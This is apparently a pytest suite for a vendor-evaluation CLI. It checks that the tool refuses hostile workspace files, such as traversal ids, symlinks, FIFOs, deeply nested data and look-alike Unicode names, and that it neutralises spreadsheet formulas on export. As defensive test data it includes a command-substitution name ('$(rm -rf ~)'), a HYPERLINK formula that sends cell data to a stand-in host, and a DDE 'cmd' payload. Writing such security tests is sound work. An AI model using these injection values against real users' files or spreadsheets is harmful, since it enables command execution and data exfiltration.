"""A workspace is shared over git or a synced folder: every file in it is untrusted.

Each test plants something hostile (a traversal id, a symbolic link, a pipe, a
deeply nested file, a confusable name...) and checks that vendorbench refuses it
with a message naming the path, exit code 1, no traceback, and, for the path
cases, that nothing anywhere under the test's temp root changed.
"""

from __future__ import annotations

import hashlib
import json
import os
import stat
import threading
import time
from pathlib import Path

import pytest

from vendorbench.cli import main
from vendorbench.errors import UnsafePathError
from vendorbench.storage import workspace_path
from vendorbench.store import Workspace, person_dir_name

USER = "Maya Chen"


def run(capsys, *args: str) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out = capsys.readouterr()
    return code, out.out, out.err


def tree(root: Path) -> dict[str, tuple]:
    """Everything under root, links not followed: kind, mode and content (or link target)."""
    out: dict[str, tuple] = {}
    for folder, dirs, files in os.walk(root, followlinks=False):
        for name in dirs + files:
            p = Path(folder) / name
            st = os.lstat(p)
            if stat.S_ISLNK(st.st_mode):
                out[str(p.relative_to(root))] = ("link", os.readlink(p))
            elif stat.S_ISREG(st.st_mode):
                out[str(p.relative_to(root))] = ("file", st.st_mode, hashlib.sha256(p.read_bytes()).hexdigest())
            else:
                out[str(p.relative_to(root))] = ("other", st.st_mode)
    return out


def assert_refused(code: int, err: str, *must_mention: str) -> None:
    assert code == 1, err
    assert "Traceback" not in err and "internal error" not in err, err
    for text in must_mention:
        assert text in err, (text, err)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A temp root holding the workspace ("ws") and a folder of precious files outside it."""
    r = tmp_path / "root"
    (r / "outside" / "deep").mkdir(parents=True)
    (r / "outside" / "precious.txt").write_text("do not touch")
    (r / "outside" / "deep" / "scores-a.json").write_text('{"answers": {}}')
    return r


@pytest.fixture
def ws(root: Path, small_files, capsys) -> Path:
    sc, lg = small_files
    d = root / "ws"
    assert main(["init", str(d), "--name", "Hostile", "--scorecard", str(sc), "--legal", str(lg)]) == 0
    assert main(["vendor", "add", str(d), "Acme"]) == 0
    assert main(["score", str(d), "--as", USER, "--vendor", "Acme", "--criterion", "a.one", "--value", "3"]) == 0
    assert main(["legal", str(d), "--as", USER, "--vendor", "Acme", "--item", "C1", "--status", "ok"]) == 0
    capsys.readouterr()
    return d


def person_dir(ws: Path, person: str = USER) -> Path:
    return ws / "answers" / person_dir_name(person)


def edit_workspace_json(ws: Path, change) -> None:  # type: ignore[no-untyped-def]
    file = ws / "workspace.json"
    doc = json.loads(file.read_text())
    change(doc)
    file.write_text(json.dumps(doc))


def edit_vendor_file(ws: Path, change, vendor_id: str = "v1") -> None:  # type: ignore[no-untyped-def]
    file = ws / "vendors" / f"{vendor_id}.json"
    doc = json.loads(file.read_text())
    change(doc)
    file.write_text(json.dumps(doc))


# --- 1. paths: ids read from disk ------------------------------------------------------


@pytest.mark.parametrize("bad_id", ["../../outside", "../../../outside", "v1/../../../outside", "/tmp",
                                    "v1/..", "", ".", "v 1", "v0", 7, None])
def test_a_vendor_id_read_from_disk_must_look_like_an_id(ws, root, capsys, bad_id):
    edit_vendor_file(ws, lambda d: d.__setitem__("id", bad_id))
    before = tree(root)
    for args in (["score", ws, "--as", USER, "--vendor", "Acme", "--criterion", "a.one", "--value", "5"],
                 ["vendor", "remove", ws, "Acme", "--force"], ["results", ws], ["export", ws, "--format", "json",
                                                                              "-o", ws / "x.json"]):
        code, _, err = run(capsys, *args)
        assert_refused(code, err, "v1.json", "vendor id")
    assert tree(root) == before


@pytest.mark.parametrize(("field", "bad", "says"), [
    ("name", "", "non-empty string"), ("name", 7, "non-empty string"), ("name", None, "non-empty string"),
    ("name", ["Acme"], "non-empty string"), ("region", "moon", "one of onshore, nearshore, offshore"),
    ("region", 1, "one of onshore"), ("website", 5, "should be a string"), ("notes", {"a": 1}, "should be a string"),
])
def test_a_vendor_record_of_the_wrong_shape_names_its_file_and_field(ws, capsys, field, bad, says):
    edit_vendor_file(ws, lambda d: d.__setitem__(field, bad))
    saved = (ws / "vendors" / "v1.json").read_bytes()
    for args in (["vendor", "list", ws], ["results", ws],
                 ["score", ws, "--as", USER, "--vendor", "Acme", "--criterion", "a.one", "--value", "5"]):
        code, _, err = run(capsys, *args)
        assert_refused(code, err, "v1.json", f"vendor: {field}: should be", says, "left untouched")
    assert (ws / "vendors" / "v1.json").read_bytes() == saved


def test_a_vendor_record_that_is_not_an_object_is_refused(ws, capsys):
    (ws / "vendors" / "v1.json").write_text('["v1", "Acme"]')
    code, _, err = run(capsys, "vendor", "list", ws)
    assert_refused(code, err, "v1.json")


def test_unknown_keys_in_a_vendor_record_are_ignored(ws, capsys):
    edit_vendor_file(ws, lambda d: d.update(color="blue", region=None))
    code, out, err = run(capsys, "vendor", "list", ws, "--json")
    assert code == 0, err
    assert json.loads(out) == [{"id": "v1", "name": "Acme", "region": None, "website": "", "notes": ""}]


@pytest.mark.parametrize("part", ["..", "../x", "a/../../b", "/etc", "", ".", "a\\b", "a\x00b", "a b", "-rf",
                                  "..hidden", "x" * 200])
def test_workspace_path_refuses_anything_but_plain_components(tmp_path, part):
    with pytest.raises(UnsafePathError):
        workspace_path(tmp_path, "answers", part)


def test_workspace_path_accepts_the_paths_vendorbench_makes(tmp_path):
    assert workspace_path(tmp_path, "answers/maya-chen-1234abcd", "v12", "scores-security.json") == \
        tmp_path / "answers" / "maya-chen-1234abcd" / "v12" / "scores-security.json"
    assert workspace_path(tmp_path, ".workspace.lock") == tmp_path / ".workspace.lock"


# --- 1. paths: symbolic links ------------------------------------------------------------


def _link(path: Path, target: Path) -> None:
    if path.is_dir() and not path.is_symlink():
        import shutil

        shutil.rmtree(path)
    elif path.exists() or path.is_symlink():
        path.unlink()
    path.symlink_to(target)


def test_a_symlinked_workspace_lock_is_refused_and_its_target_untouched(ws, root, capsys):
    _link(ws / ".workspace.lock", root / "outside" / "precious.txt")
    before = tree(root)
    code, _, err = run(capsys, "vendor", "add", ws, "Globex")
    assert_refused(code, err, ".workspace.lock", "symbolic link")
    assert tree(root) == before
    assert (root / "outside" / "precious.txt").read_text() == "do not touch"


def test_a_symlinked_person_lock_is_refused_and_its_target_untouched(ws, root, capsys):
    _link(person_dir(ws) / ".lock", root / "outside" / "precious.txt")
    before = tree(root)
    code, _, err = run(capsys, "score", ws, "--as", USER, "--vendor", "Acme", "--criterion", "a.one", "--value", "4")
    assert_refused(code, err, ".lock", "symbolic link")
    assert tree(root) == before


def test_a_hard_linked_lock_file_is_refused(ws, root, capsys):
    lock = person_dir(ws) / ".lock"
    lock.unlink()
    os.link(root / "outside" / "precious.txt", lock)
    before = tree(root)
    code, _, err = run(capsys, "score", ws, "--as", USER, "--vendor", "Acme", "--criterion", "a.one", "--value", "4")
    assert_refused(code, err, ".lock", "hard links")
    assert tree(root) == before


@pytest.mark.parametrize("command", [
    ["score", "--as", USER, "--vendor", "Acme", "--criterion", "a.one", "--value", "4"],
    ["score", "--as", "Someone New", "--vendor", "Acme", "--criterion", "a.one", "--value", "4"],
    ["legal", "--as", USER, "--vendor", "Acme", "--item", "H1", "--status", "missing"],
    ["vendor", "remove", "Acme", "--force"],
    ["results"],
])
@pytest.mark.parametrize("planted", ["person folder", "vendor folder", "data file", "answers folder"])
def test_a_symlink_inside_answers_is_refused_and_nothing_outside_changes(ws, root, capsys, planted, command):
    outside = root / "outside" / "deep"
    where = {"person folder": person_dir(ws), "vendor folder": person_dir(ws) / "v1",
             "data file": person_dir(ws) / "v1" / "scores-a.json", "answers folder": ws / "answers"}[planted]
    _link(where, outside / "scores-a.json" if planted == "data file" else outside)
    before = tree(root)
    code, _, err = run(capsys, command[0], *command[1:2] if command[0] == "vendor" else (),
                       ws, *(command[2:] if command[0] == "vendor" else command[1:]))
    # A command that does not go through the planted link may succeed: another
    # person's save, a save to another file, or --force removing the link itself.
    unaffected = (command[0] == "score" and "Someone New" in command and planted == "data file") or (
        planted == "data file" and command[0] in {"legal", "vendor"})
    if unaffected:
        assert code == 0, err
        assert {k: v for k, v in tree(root).items() if not k.startswith("ws")} == \
            {k: v for k, v in before.items() if not k.startswith("ws")}
    else:
        assert_refused(code, err, "symbolic link")
        assert tree(root) == before


@pytest.mark.parametrize("name", ["workspace.json", "questionnaires/scorecard.toml", "questionnaires/legal.toml"])
def test_symlinked_workspace_files_are_refused(ws, root, capsys, name):
    target = root / "outside" / "copy"
    target.write_bytes((ws / name).read_bytes())
    _link(ws / name, target)
    before = tree(root)
    code, _, err = run(capsys, "results", ws)
    assert_refused(code, err, "symbolic link")
    assert tree(root) == before


def test_a_symlinked_questionnaires_folder_is_refused(ws, root, capsys):
    import shutil

    shutil.copytree(ws / "questionnaires", root / "outside" / "q")
    _link(ws / "questionnaires", root / "outside" / "q")
    code, _, err = run(capsys, "results", ws)
    assert_refused(code, err, "questionnaires", "symbolic link")


def test_vendor_remove_force_deletes_only_inside_the_workspace(ws, root, capsys):
    before = {k: v for k, v in tree(root).items() if not k.startswith("ws")}
    code, _, err = run(capsys, "vendor", "remove", ws, "Acme", "--force")
    assert code == 0, err
    assert not (person_dir(ws) / "v1").exists()
    assert {k: v for k, v in tree(root).items() if not k.startswith("ws")} == before


def test_a_fifo_in_the_answers_folder_is_refused_without_blocking(ws, capsys):
    fifo = person_dir(ws) / "v1" / "scores-b.json"
    os.mkfifo(fifo)
    t = time.monotonic()
    code, _, err = run(capsys, "results", ws)
    assert_refused(code, err, "scores-b.json", "not a regular file")
    assert time.monotonic() - t < 10


def test_a_folder_with_a_name_vendorbench_never_makes_is_refused(ws, capsys):
    (ws / "answers" / "not a person").mkdir()
    code, _, err = run(capsys, "results", ws)
    assert_refused(code, err, "not a person")


# --- 1. paths: who you are ---------------------------------------------------------------


@pytest.mark.parametrize("who", ["../../../x", "../../outside", "a/b", "/etc/passwd", "..", ".", "C:\\x\\y",
                                 "~root", "$(rm -rf ~)", "x\u202e/..", "-", "\u3000"])
def test_a_person_name_with_separators_maps_to_a_safe_folder_inside(ws, root, capsys, monkeypatch, who):
    monkeypatch.setenv("VENDORBENCH_USER", who)
    before = {k: v for k, v in tree(root).items() if not k.startswith("ws")}
    code, _, err = run(capsys, "score", ws, "--vendor", "Acme", "--criterion", "b.one", "--value", "2")
    if code == 0:
        folders = [p.name for p in (ws / "answers").iterdir()]
        assert all(p.parent == ws / "answers" for p in (ws / "answers").iterdir())
        assert all("/" not in f and ".." not in f and not f.startswith(".") for f in folders)
        assert len(folders) == 2
    else:
        assert_refused(code, err, "VENDORBENCH_USER")
    assert {k: v for k, v in tree(root).items() if not k.startswith("ws")} == before


def test_an_empty_as_is_refused_not_replaced_by_the_login_name(ws, capsys):
    code, _, err = run(capsys, "score", ws, "--as", "", "--vendor", "Acme", "--criterion", "a.one", "--value", "1")
    assert_refused(code, err, "--as", "empty")
    assert [p.name for p in (ws / "answers").iterdir()] == [person_dir_name(USER)]


def test_an_empty_vendorbench_user_is_refused(ws, capsys, monkeypatch):
    monkeypatch.setenv("VENDORBENCH_USER", "")
    code, _, err = run(capsys, "score", ws, "--vendor", "Acme", "--criterion", "a.one", "--value", "1")
    assert_refused(code, err, "VENDORBENCH_USER", "empty")


# --- 1. bounded reads: deep nesting, pipes, devices ------------------------------------------


@pytest.mark.parametrize("text", ["a = " + "[" * 5000 + "]" * 5000, "a = " + "{b = " * 3000 + "1" + "}" * 3000],
                         ids=["arrays", "inline tables"])
def test_deeply_nested_toml_is_a_clear_problem(tmp_path, capsys, text):
    f = tmp_path / "deep.toml"
    f.write_text(text)
    code, _, err = run(capsys, "validate", f)
    assert_refused(code, err, str(f))


def test_validate_refuses_a_fifo_at_once(tmp_path, capsys):
    fifo = tmp_path / "pipe.toml"
    os.mkfifo(fifo)
    result: list = []
    worker = threading.Thread(target=lambda: result.append(run(capsys, "validate", fifo)), daemon=True)
    worker.start()
    worker.join(10)
    assert result, "validate blocked on a FIFO"
    code, _, err = result[0]
    assert_refused(code, err, str(fifo), "pipe")


@pytest.mark.parametrize("command", [
    ("import", "{ws}", "{file}"),
    ("kpi", "{ws}", "import", "--vendor", "Acme", "{file}"),
    ("rfp", "import", "{ws}", "--vendor", "Acme", "{file}"),
], ids=["import", "kpi-import", "rfp-import"])
def test_every_import_refuses_a_fifo_at_once(ws, root, capsys, command):
    fifo = root / "pipe.csv"
    os.mkfifo(fifo)
    args = [part.format(ws=ws, file=fifo) for part in command]
    result: list = []
    worker = threading.Thread(target=lambda: result.append(run(capsys, *args)), daemon=True)
    worker.start()
    worker.join(10)
    assert result, f"{command[0]} blocked on a FIFO"
    code, _, err = result[0]
    assert_refused(code, err, str(fifo), "pipe")


@pytest.mark.parametrize("device", ["/dev/zero", "/dev/urandom"])
def test_validate_refuses_an_endless_device(capsys, device):
    if not os.path.exists(device):
        pytest.skip(f"no {device} here")
    code, _, err = run(capsys, "validate", device)
    assert_refused(code, err, device, "not a regular file")


def test_validate_refuses_an_oversized_file(tmp_path, capsys):
    f = tmp_path / "huge.toml"
    f.write_bytes(b"# " + b"x" * (5 * 1024 * 1024))
    code, _, err = run(capsys, "validate", f)
    assert_refused(code, err, str(f), "limit")


def test_deeply_nested_json_in_the_workspace_is_a_clear_error(ws, capsys):
    (ws / "workspace.json").write_text("[" * 100_000 + "]" * 100_000)
    code, _, err = run(capsys, "results", ws)
    assert_refused(code, err, "workspace.json", "nested too deeply")


def test_deeply_nested_json_in_an_answer_file_is_a_clear_error(ws, capsys):
    data = person_dir(ws) / "v1" / "scores-a.json"
    data.write_text('{"answers": ' + "[" * 100_000 + "]" * 100_000 + "}")
    code, _, err = run(capsys, "results", ws)
    assert_refused(code, err, "scores-a.json", "nested too deeply")


# --- 2. identity: vendor names and ids ---------------------------------------------------


@pytest.mark.parametrize("name", ["v1", "V2", "v 3", "ｖ４", "v0012", "id:v1", "ID: Acme", "\u200bv1"])
def test_a_vendor_name_that_looks_like_an_id_is_refused(ws, capsys, name):
    code, _, err = run(capsys, "vendor", "add", ws, name)
    assert_refused(code, err, "looks like a vendor id")
    code, _, err = run(capsys, "vendor", "rename", ws, "Acme", name)
    assert_refused(code, err, "looks like a vendor id")
    assert [v.name for v in Workspace(ws).vendors()] == ["Acme"]


def test_a_score_for_a_vendor_named_by_name_never_lands_on_a_vendor_named_like_its_id(ws, capsys):
    # an older or hand-edited workspace: vendor v2 is *named* "v1", the id of Acme
    edit_workspace_json(ws, lambda d: d.setdefault("vendors", {}).__setitem__("2", {"id": "v2", "name": "v1"}))
    code, _, err = run(capsys, "score", ws, "--as", USER, "--vendor", "Acme", "--criterion", "b.one", "--value", "5")
    assert code == 0, err
    stored = {(a.vendor_id, a.criterion): a.value for a in Workspace(ws).answers()}
    assert stored == {("v1", "a.one"): 3, ("v1", "b.one"): 5}


def test_ids_are_named_only_with_the_explicit_id_form(ws, capsys):
    assert main(["vendor", "add", str(ws), "Globex"]) == 0
    code, out, err = run(capsys, "score", ws, "--as", USER, "--vendor", "id:v2", "--criterion", "a.one", "--value", "1")
    assert code == 0 and "Globex" in out, err
    code, _, err = run(capsys, "score", ws, "--as", USER, "--vendor", "v2", "--criterion", "a.one", "--value", "1")
    assert_refused(code, err, "unknown vendor 'v2'", "id:v2")
    code, _, err = run(capsys, "score", ws, "--as", USER, "--vendor", "id:v9", "--criterion", "a.one", "--value", "1")
    assert_refused(code, err, "unknown vendor id 'v9'")


@pytest.mark.parametrize("lookalike", ["ACME", "Acme\u200b", "Ac\u200dme", "\u202eAcme", "Acme\u2066", "\ufeffAcme",
                                       "Ａｃｍｅ", "\u0410\u0441me", "Α\u0441me", "A\u0441me", "Acme\u00a0",
                                       " Acme ", "A\u00adcme"])
def test_a_vendor_name_differing_only_invisibly_or_by_lookalike_letters_is_a_duplicate(ws, capsys, lookalike):
    code, _, err = run(capsys, "vendor", "add", ws, lookalike)
    assert_refused(code, err, "a vendor named 'Acme' already exists")
    assert main(["vendor", "add", str(ws), "Globex"]) == 0
    code, _, err = run(capsys, "vendor", "rename", ws, "Globex", lookalike)
    assert_refused(code, err, "already exists")
    assert sorted(v.name for v in Workspace(ws).vendors()) == ["Acme", "Globex"]


def test_a_vendor_name_written_wholly_in_lookalike_cyrillic_is_a_duplicate(ws, capsys):
    assert main(["vendor", "add", str(ws), "Cope Support"]) == 0
    code, _, err = run(capsys, "vendor", "add", ws, "\u0421\u043e\u0440\u0435 Support")  # С о р е
    assert_refused(code, err, "a vendor named 'Cope Support' already exists", "look-alike letters")


def test_invisible_characters_are_removed_from_a_new_name_with_a_note(ws, capsys):
    code, out, err = run(capsys, "vendor", "add", ws, "Glo\u200bbex \u202eSupport")
    assert code == 0 and "note: invisible formatting characters" in err
    assert [v.name for v in Workspace(ws).vendors()] == ["Acme", "Globex Support"]


def test_a_legacy_workspace_with_two_lookalike_vendors_asks_for_an_id(ws, capsys):
    edit_workspace_json(ws, lambda d: d.setdefault("vendors", {}).__setitem__("2", {"id": "v2", "name": "\u0410cme"}))
    code, _, err = run(capsys, "score", ws, "--as", USER, "--vendor", "\u0391cme", "--criterion", "a.one",
                       "--value", "1")  # a Greek Alpha: like both, exactly neither
    assert_refused(code, err, "ambiguous", "id:v1")
    code, _, err = run(capsys, "score", ws, "--as", USER, "--vendor", "Acme", "--criterion", "a.one", "--value", "1")
    assert code == 0, err  # the exact spelling is unambiguous


# --- 2. identity: people and their folders -----------------------------------------------


def scores_by_person(ws: Path) -> dict[str, int | str | None]:
    return {a.evaluator: a.value for a in Workspace(ws).answers() if a.criterion == "b.one"}


def test_two_people_whose_names_collided_in_the_old_folder_hash_never_share_a_folder(ws, capsys):
    first, second = "Maya 殤丁", "Maya 凄丂"
    from vendorbench.store import legacy_person_dir_name

    assert legacy_person_dir_name(first) == legacy_person_dir_name(second)  # the collision the issue found
    assert person_dir_name(first) != person_dir_name(second)
    for who, value in ((first, "1"), (second, "4")):
        code, _, err = run(capsys, "score", ws, "--as", who, "--vendor", "Acme", "--criterion", "b.one", "--value",
                           value)
        assert code == 0, err
    assert scores_by_person(ws) == {first: 1, second: 4}


def test_a_legacy_folder_that_belongs_to_someone_else_is_never_shared(ws, capsys):
    from vendorbench.store import legacy_person_dir_name

    first, second = "Maya 殤丁", "Maya 凄丂"
    assert main(["score", str(ws), "--as", first, "--vendor", "Acme", "--criterion", "b.one", "--value", "1"]) == 0
    # as an earlier vendorbench left it: the first person's folder under the legacy name
    (ws / "answers" / person_dir_name(first)).rename(ws / "answers" / legacy_person_dir_name(first))
    legacy_file = ws / "answers" / legacy_person_dir_name(first) / "v1" / "scores-b.json"
    before = legacy_file.read_bytes()
    code, _, err = run(capsys, "score", ws, "--as", second, "--vendor", "Acme", "--criterion", "b.one", "--value", "4")
    assert code == 0, err
    assert legacy_file.read_bytes() == before
    assert (ws / "answers" / person_dir_name(second)).is_dir()
    assert scores_by_person(ws) == {first: 1, second: 4}


def test_a_workspace_with_legacy_folder_names_reads_and_saves_as_before(ws, capsys):
    from vendorbench.store import legacy_person_dir_name

    (ws / "answers" / person_dir_name(USER)).rename(ws / "answers" / legacy_person_dir_name(USER))
    assert Workspace(ws).answers_of(USER, "v1")["a.one"].value == 3
    code, _, err = run(capsys, "score", ws, "--as", USER, "--vendor", "Acme", "--criterion", "a.one", "--value", "5")
    assert code == 0, err
    assert [p.name for p in (ws / "answers").iterdir()] == [legacy_person_dir_name(USER)]
    assert Workspace(ws).answers_of(USER, "v1")["a.one"].value == 5
    assert scores_by_person(ws) == {}
    assert [a.value for a in Workspace(ws).answers() if a.criterion == "a.one"] == [5]


@pytest.mark.parametrize("same", ["MAYA CHEN", "maya  chen", "Ｍａｙａ Ｃｈｅｎ", "\u202eMaya Chen", "Maya\u200b Chen"])
def test_the_same_person_typed_differently_is_one_person(ws, capsys, same):
    code, _, err = run(capsys, "score", ws, "--as", same, "--vendor", "Acme", "--criterion", "a.one", "--value", "1")
    assert code == 0, err
    assert [p.name for p in (ws / "answers").iterdir()] == [person_dir_name(USER)]
    assert [(a.evaluator, a.value) for a in Workspace(ws).answers() if a.criterion == "a.one"] == [(USER, 1)]


@pytest.mark.parametrize("lookalike", ["M\u0430ya Chen", "Maya Сhen", "Μaya Chen"])  # Cyrillic а, С; Greek Μ
def test_a_new_person_whose_name_only_looks_like_a_teammates_is_refused(ws, capsys, lookalike):
    before = tree(ws)
    code, _, err = run(capsys, "score", ws, "--as", lookalike, "--vendor", "Acme", "--criterion", "a.one",
                       "--value", "0")
    assert_refused(code, err, "looks like the existing evaluator 'Maya Chen'")
    assert tree(ws) == before


def test_a_file_planted_in_my_folder_under_another_name_is_never_written(ws, capsys):
    file = person_dir(ws) / "v1" / "scores-a.json"
    doc = json.loads(file.read_text())
    doc["meta"]["1"]["person"] = "Dana Okafor"
    file.write_text(json.dumps(doc))
    before = tree(ws)
    code, _, err = run(capsys, "score", ws, "--as", USER, "--vendor", "Acme", "--criterion", "a.one", "--value", "0")
    assert_refused(code, err, "scores-a.json", "Dana Okafor", "nothing was written")
    assert tree(ws) == before
    assert Workspace(ws).answers_of(USER, "v1") == {}  # Dana's file is not read as mine


# --- 3. data in and out ------------------------------------------------------------------


def test_an_import_whose_second_target_file_is_corrupt_changes_nothing(ws, root, capsys):
    good = root / "scores.csv"
    good.write_text("evaluator,vendor,criterion,score,note\nDana,Acme,a.one,4,fine\n")
    second = root / "legal.csv"
    second.write_text("reviewer,vendor,item,status,note\nMaya Chen,Acme,C1,missing,changed\n")
    (person_dir(ws) / "v1" / "legal-privacy.json").write_text('{"findings": {"1": ')  # torn by someone's tool
    before = tree(root)
    code, _, err = run(capsys, "import", ws, good, second)
    assert_refused(code, err, "legal-privacy.json", "corrupt")
    assert tree(root) == before


def test_an_import_into_a_file_recorded_for_someone_else_changes_nothing(ws, root, capsys):
    file = person_dir(ws) / "v1" / "legal-privacy.json"
    doc = json.loads(file.read_text())
    doc["meta"]["1"]["person"] = "Dana Okafor"
    file.write_text(json.dumps(doc))
    first = root / "scores.csv"
    first.write_text("evaluator,vendor,criterion,score,note\nZoe,Acme,a.one,4,\n")
    second = root / "legal.csv"
    second.write_text("reviewer,vendor,item,status,note\nMaya Chen,Acme,H1,ok,\n")
    before = tree(root)
    code, _, err = run(capsys, "import", ws, first, second)
    assert_refused(code, err, "legal-privacy.json", "Dana Okafor", "nothing was imported")
    assert tree(root) == before


FORMULAS = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "'=already escaped",
            "''", "'plain apostrophe", "=1\n=2", "a normal note", "- a bullet"]


def test_csv_export_neutralises_formulas_and_the_round_trip_is_lossless(ws, root, capsys):
    from vendorbench.transfer import restore_cell

    w = Workspace(ws)
    for i, text in enumerate(FORMULAS):
        w.set_answer(USER, "v1", "b.one", 2, note=text, evidence=text)
        w.set_finding("=cmd|' /C calc'!A0", "v1", "H1", "ok", note=text, clause=text)
        out = root / f"export-{i}.csv"
        assert main(["export", str(ws), "--format", "csv", "-o", str(out)]) == 0
        import csv

        for file in (out, root / f"export-{i}-legal.csv"):
            for row in list(csv.reader(file.open(newline="", encoding="utf-8")))[1:]:
                assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
                if row[2] in {"b.one", "H1"}:
                    assert [restore_cell(c) for c in row][4:] == [text, text]
        # the exported files re-import to the same data: nothing changes
        before = tree(ws)
        code, outp, err = run(capsys, "import", ws, out, root / f"export-{i}-legal.csv")
        assert code == 0 and "0 changed" in outp, err
        assert tree(ws) == before
    capsys.readouterr()
    assert Workspace(ws).answers_of(USER, "v1")["b.one"].note == FORMULAS[-1]


def _edit_data(ws: Path, name: str, change) -> None:  # type: ignore[no-untyped-def]
    file = person_dir(ws) / "v1" / name
    doc = json.loads(file.read_text())
    change(doc)
    file.write_text(json.dumps(doc))


WRONG_SHAPES = {
    "vendor without name": ("v1.json", lambda d: d.pop("name"), "vendor: name"),
    "vendor name a number": ("v1.json", lambda d: d.__setitem__("name", 5), "name"),
    "region unknown": ("v1.json", lambda d: d.__setitem__("region", "moon"), "region"),
    "weight as text": ("workspace.json", lambda d: d.__setitem__("weights", {"1": {"categories": {"a": "20"}}}),
                       "weights record 1: categories.a"),
    "weight negative": ("workspace.json", lambda d: d.__setitem__("weights", {"1": {"categories": {"a": -1}}}),
                        "categories.a"),
    "condition without vendor": ("workspace.json", lambda d: d.__setitem__("conditions", {"1": {"condition": "x"}}),
                                 "conditions record 1: vendor_id"),
    "answer without criterion": ("scores-a.json", lambda d: d["answers"]["1"].pop("criterion"), "criterion"),
    "score as text": ("scores-a.json", lambda d: d["answers"]["1"].__setitem__("value", "3"), "scores-a.json"),
    "status maybe": ("legal-privacy.json", lambda d: d["findings"]["1"].__setitem__("status", "maybe"), "status"),
    "missing meta table": ("scores-a.json", lambda d: d.pop("meta"), "meta table is missing"),
    "meta without person": ("legal-privacy.json", lambda d: d["meta"]["1"].pop("person"), "meta record 1: person"),
    "meta for another vendor": ("scores-a.json", lambda d: d["meta"]["1"].__setitem__("vendor_id", "v7"),
                                "not the vendor of its folder"),
}


@pytest.mark.parametrize("case", WRONG_SHAPES)
def test_a_record_of_the_wrong_shape_is_a_message_naming_file_and_field(ws, capsys, case):
    name, change, expected = WRONG_SHAPES[case]
    if name == "workspace.json":
        edit_workspace_json(ws, change)
    elif name == "v1.json":
        edit_vendor_file(ws, change)
    else:
        _edit_data(ws, name, change)
    for command in (["results", ws], ["export", ws, "--format", "json", "-o", ws.parent / "out.json"]):
        code, _, err = run(capsys, *command)
        assert_refused(code, err, name, expected)


def test_xlsx_export_holds_results_answers_and_findings_and_no_formula_runs(ws, root):
    from python_calamine import CalamineWorkbook

    from vendorbench.transfer import restore_cell

    w = Workspace(ws)
    w.set_answer(USER, "v1", "b.one", 4, note=FORMULAS[0], evidence="@SUM(A1)")
    w.set_finding(USER, "v1", "H1", "missing", note="+1+1", clause="=1+1")
    out = root / "out.xlsx"
    assert main(["export", str(ws), "--format", "xlsx", "-o", str(out)]) == 0
    book = CalamineWorkbook.from_path(str(out))
    assert book.sheet_names == ["Results", "Answers", "Findings"]
    results_sheet = book.get_sheet_by_name("Results").to_python()
    assert results_sheet[0][:3] == ["rank", "vendor", "total"] and results_sheet[1][1] == "Acme"
    answers = book.get_sheet_by_name("Answers").to_python()
    row = next(r for r in answers if r[2] == "b.one")
    assert row[4] == "'" + FORMULAS[0] and [restore_cell(c) for c in row[4:]] == [FORMULAS[0], "@SUM(A1)"]
    findings = book.get_sheet_by_name("Findings").to_python()
    row = next(r for r in findings if r[2] == "H1")
    assert row[3] == "missing" and [restore_cell(c) for c in row[4:]] == ["+1+1", "=1+1"]
    import zipfile

    with zipfile.ZipFile(out) as z:  # no cell of any sheet is a formula
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets")]
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)


@pytest.mark.parametrize(("bad", "says"), [
    (7, "score 7 for 'a.one' is not 0..5 or na"),
    (-1, "score -1 for 'a.one' is not 0..5 or na"),
    (True, "score True for 'a.one' is not 0..5 or na"),
    (3.0, "score 3.0 for 'a.one' is not 0..5 or na"),
    ("3", "score '3' for 'a.one' is not 0..5 or na"),
    ([], "score [] for 'a.one' is not 0..5 or na"),
])
def test_a_hand_damaged_score_names_its_file_and_nothing_is_computed_from_it(ws, capsys, bad, says):
    (file,) = person_dir(ws).glob("v1/scores-*.json")
    doc = json.loads(file.read_text())
    (answer,) = doc["answers"].values()
    answer["value"] = bad
    file.write_text(json.dumps(doc))
    before = tree(ws)
    code, out, err = run(capsys, "results", ws)
    assert_refused(code, err, str(file), says, "left untouched")
    assert out == "" and tree(ws) == before


def test_an_answer_without_a_criterion_id_names_its_file(ws, capsys):
    (file,) = person_dir(ws).glob("v1/scores-*.json")
    doc = json.loads(file.read_text())
    (answer,) = doc["answers"].values()
    answer["criterion"] = 12
    file.write_text(json.dumps(doc))
    code, _, err = run(capsys, "results", ws)
    assert_refused(code, err, str(file), "an answer without a criterion id")
